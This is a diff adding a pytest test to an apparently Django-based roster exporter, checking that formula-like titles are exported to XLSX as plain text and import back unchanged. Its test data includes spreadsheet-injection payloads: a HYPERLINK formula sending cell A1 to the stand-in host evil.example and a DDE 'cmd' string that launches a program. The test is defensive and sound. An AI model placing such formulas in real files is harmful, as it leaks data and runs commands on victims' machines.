@@ -339,6 +339,38 @@ def test_export_round_trips_through_import(indexes, admin_client, make_session):
 
 
 @pytest.mark.django_db
+def test_export_writes_formula_like_text_as_text(indexes):
+    """A title such as =HYPERLINK(...) is exported as a text cell, not as a formula that Excel
+    would run, and imports back unchanged."""
+    import zipfile
+
+    from delegates.exporter import export_xlsx
+
+    formula = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
+    station = list(STATIONS[1])
+    station[1], station[4], station[10] = formula, "+1+cmd|' /C calc'!A0", "@SUM(1)"
+    report = import_roster(csv_bytes([STATIONS[0], station]), "stations.csv", apply=True)
+    assert report.ok, report.errors
+    assert StationPage.objects.get(code="JB-T-01").title == formula
+
+    exported = export_xlsx()
+    sheet = openpyxl.load_workbook(io.BytesIO(exported))["联络站"]
+    cells = {sheet.cell(1, col).value: sheet.cell(2, col) for col in range(1, sheet.max_column + 1)}
+    for header, value in [("名称", formula), ("地址", station[4]), ("联络员", "@SUM(1)")]:
+        assert cells[header].value == value
+        assert cells[header].data_type == "s", header
+    assert cells["纬度"].data_type == "n" and cells["纬度"].value == 30.8712
+    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
+
+    tables = {t.kind: t for t in read_tables(exported, "roster.xlsx")}
+    assert tables["stations"].rows[0][1]["title"] == formula
+    report = import_roster(exported, "roster.xlsx", apply=True)
+    assert report.ok and report.changes == 0, report.actions
+
+
+@pytest.mark.django_db
 def test_levels_may_carry_their_own_term(indexes):
     delegates = [
         DELEGATES[0],
